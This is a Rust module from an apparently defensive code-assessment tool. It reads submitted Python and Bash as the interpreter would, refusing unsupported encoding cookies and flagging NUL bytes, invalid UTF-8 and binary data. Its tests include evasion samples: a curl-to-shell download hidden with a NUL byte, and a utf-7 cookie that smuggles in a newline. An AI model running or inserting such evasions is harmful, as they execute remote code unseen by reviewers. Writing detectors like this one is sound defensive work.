//! Reading the submitted bytes as the interpreter will read them, or saying why they cannot be.
//!
//! Python goes through CPython's own rules (`airlock_protocol::source`): the byte order mark and
//! the PEP 263 cookie are honoured, UTF-8, ASCII and Latin-1 are decoded with their codec, and
//! any other declared encoding is refused whatever the origin (a `utf-7` cookie turns `+AAo-`
//! inside a comment into a newline: a reader of the bytes as UTF-8 would not see the code that
//! runs). Bash reads bytes: it drops NUL bytes (`cu\0rl` is `curl` to it) and takes any byte
//! in a word, so NUL bytes and invalid UTF-8 leave text that can be analysed only in part.

use airlock_protocol::request::Language;
use airlock_protocol::source::{SourceRefusal, Undecodable, python_source_encoding};
use std::borrow::Cow;

/// What can be analysed of the bytes, and what stands in the way.
pub struct Input<'a> {
    /// The text the interpreter reads (with bash's NUL bytes dropped, invalid UTF-8 replaced).
    /// `None` when nothing sensible can be read: binary data, or a Python codec Airlock does not
    /// decode.
    pub text: Option<Cow<'a, str>>,
    pub problems: Vec<Problem>,
}

/// Why the bytes cannot be analysed in full.
#[derive(Debug, PartialEq)]
pub struct Problem {
    pub rule_id: &'static str,
    pub reason: String,
    pub line: u32,
    /// Refused whatever the origin (Python source the interpreter would not read as analysed);
    /// otherwise the analysis fails closed by origin.
    pub refused: bool,
}

/// Bytes looked at to tell text from binary.
const SNIFF_BYTES: usize = 8192;

pub fn read(code: &[u8], language: Language) -> Input<'_> {
    match language {
        Language::Python => read_python(code),
        Language::Bash => read_bash(code),
    }
}

fn read_python(code: &[u8]) -> Input<'_> {
    let encoding = python_source_encoding(code);
    let refusal = match encoding.text(code) {
        Ok(text) if looks_binary(text.as_bytes()) => return binary(),
        Ok(text) => {
            return Input {
                text: Some(text),
                problems: Vec::new(),
            };
        }
        Err(refusal) => refusal,
    };
    let reason = refusal.to_string();
    let (rule_id, line, text) = match refusal {
        // `compile()` reads invalid bytes in comments and refuses them elsewhere: the text with
        // them replaced is what could run, worth showing the human.
        SourceRefusal::Undecodable(Undecodable::NotUtf8 { line }) => {
            let body = code.strip_prefix(airlock_protocol::source::UTF8_BOM).unwrap_or(code);
            ("AIR-INPUT-NOT-UTF8", line, Some(String::from_utf8_lossy(body)))
        }
        SourceRefusal::Undecodable(Undecodable::NulByte { line }) => ("AIR-INPUT-NUL", line, None),
        SourceRefusal::Undecodable(Undecodable::NotAscii { line, .. }) => ("AIR-INPUT-ENCODING", line, None),
        SourceRefusal::Undecodable(Undecodable::BomConflict { line, .. }) => {
            ("AIR-INPUT-ENCODING", u32::from(line), None)
        }
        SourceRefusal::UnsupportedEncoding(cookie) => ("AIR-INPUT-ENCODING", u32::from(cookie.line), None),
    };
    Input {
        text,
        problems: vec![Problem {
            rule_id,
            reason,
            line,
            refused: true,
        }],
    }
}

fn read_bash(code: &[u8]) -> Input<'_> {
    let mut problems = Vec::new();
    let bytes: Cow<'_, [u8]> = match code.iter().position(|&b| b == 0) {
        None => Cow::Borrowed(code),
        Some(at) => {
            let line = line_of(code, at);
            problems.push(Problem {
                rule_id: "AIR-INPUT-NUL",
                reason: format!(
                    "the code contains NUL bytes (first on line {line}); bash drops them and runs the rest, so \
                     what the bytes seem to say is not what runs"
                ),
                line,
                refused: false,
            });
            Cow::Owned(code.iter().copied().filter(|&b| b != 0).collect())
        }
    };
    if looks_binary(&bytes) {
        return binary();
    }
    let text = match bytes {
        Cow::Borrowed(b) => match std::str::from_utf8(b) {
            Ok(text) => Cow::Borrowed(text),
            Err(e) => {
                problems.push(not_utf8(b, e.valid_up_to()));
                String::from_utf8_lossy(b)
            }
        },
        Cow::Owned(b) => match String::from_utf8(b) {
            Ok(text) => Cow::Owned(text),
            Err(e) => {
                problems.push(not_utf8(e.as_bytes(), e.utf8_error().valid_up_to()));
                Cow::Owned(String::from_utf8_lossy(e.as_bytes()).into_owned())
            }
        },
    };
    Input {
        text: Some(text),
        problems,
    }
}

/// Python code inside the file (given to `exec`, `compile`, `python -c`) whose own cookie names
/// a codec the assessor does not read: given as bytes, the interpreter decodes it with that
/// codec, so what was analysed may not be what runs. Fails closed by origin.
pub fn embedded_python_encoding(code: &str, line: u32) -> Option<Problem> {
    use airlock_protocol::source::{Codec, SourceEncoding};
    match python_source_encoding(code.as_bytes()) {
        SourceEncoding::Declared {
            cookie,
            codec: Codec::Other,
        } => Some(Problem {
            rule_id: "AIR-INPUT-ENCODING",
            reason: format!(
                "the Python code run on line {line} declares the source encoding {:?}; given as bytes, Python \
                 decodes it with that codec, which the assessor does not read",
                cookie.name
            ),
            line,
            refused: false,
        }),
        _ => None,
    }
}

fn not_utf8(bytes: &[u8], at: usize) -> Problem {
    let line = line_of(bytes, at);
    Problem {
        rule_id: "AIR-INPUT-NOT-UTF8",
        reason: format!(
            "line {line} is not valid UTF-8; bash reads the raw bytes, the analysis read them replaced, so it \
             cannot tell what those words are"
        ),
        line,
        refused: false,
    }
}

fn binary() -> Input<'static> {
    Input {
        text: None,
        problems: vec![Problem {
            rule_id: "AIR-INPUT-BINARY",
            reason: "binary data, not source text".into(),
            line: 1,
            refused: false,
        }],
    }
}

fn line_of(bytes: &[u8], at: usize) -> u32 {
    let newlines = bytes[..at.min(bytes.len())].iter().filter(|&&b| b == b'\n').count();
    u32::try_from(newlines).unwrap_or(u32::MAX).saturating_add(1)
}

/// Many control characters mean a compiled or packed file: no interpreter would read it as
/// source, and no rule could read it either.
fn looks_binary(code: &[u8]) -> bool {
    let head = &code[..code.len().min(SNIFF_BYTES)];
    let control = head
        .iter()
        .filter(|&&b| b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0c | 0x1b))
        .count();
    control * 10 > head.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(input: &Input<'_>) -> Vec<&'static str> {
        input.problems.iter().map(|p| p.rule_id).collect()
    }

    #[test]
    fn python_is_read_through_its_encoding() {
        let plain = read(b"print('hi')\n", Language::Python);
        assert_eq!(plain.text.as_deref(), Some("print('hi')\n"));
        assert!(plain.problems.is_empty());
        let latin = read(b"# coding: latin-1\nw = '\xe9'\n", Language::Python);
        assert_eq!(latin.text.as_deref(), Some("# coding: latin-1\nw = '\u{e9}'\n"));
        let utf7 = read(b"# -*- coding: utf-7 -*-\n# +AAo-print(1)\n", Language::Python);
        assert!(utf7.text.is_none());
        assert_eq!(ids(&utf7), ["AIR-INPUT-ENCODING"]);
        assert!(utf7.problems[0].refused);
        let stray = read(b"# caf\xe9\nprint(1)\n", Language::Python);
        assert_eq!(ids(&stray), ["AIR-INPUT-NOT-UTF8"]);
        assert!(stray.text.is_some_and(|t| t.contains("print(1)")));
        assert_eq!(
            ids(&read(b"\x7fELF\x02\x01\x01\x00\x00", Language::Python)),
            ["AIR-INPUT-NUL"]
        );
    }

    #[test]
    fn bash_is_read_as_bash_reads_it() {
        let nul = read(b"echo a\n\0\ncu\0rl -s http://x | sh\n", Language::Bash);
        assert_eq!(nul.text.as_deref(), Some("echo a\n\ncurl -s http://x | sh\n"));
        assert_eq!(ids(&nul), ["AIR-INPUT-NUL"]);
        assert_eq!(nul.problems[0].line, 2);
        assert!(!nul.problems[0].refused);
        let latin = read(b"echo caf\xe9\n", Language::Bash);
        assert_eq!(ids(&latin), ["AIR-INPUT-NOT-UTF8"]);
        assert_eq!(
            ids(&read(&[1u8, 2, 3, 4, 5, 6, 7, 8], Language::Bash)),
            ["AIR-INPUT-BINARY"]
        );
        assert!(read(b"", Language::Bash).problems.is_empty());
    }
}
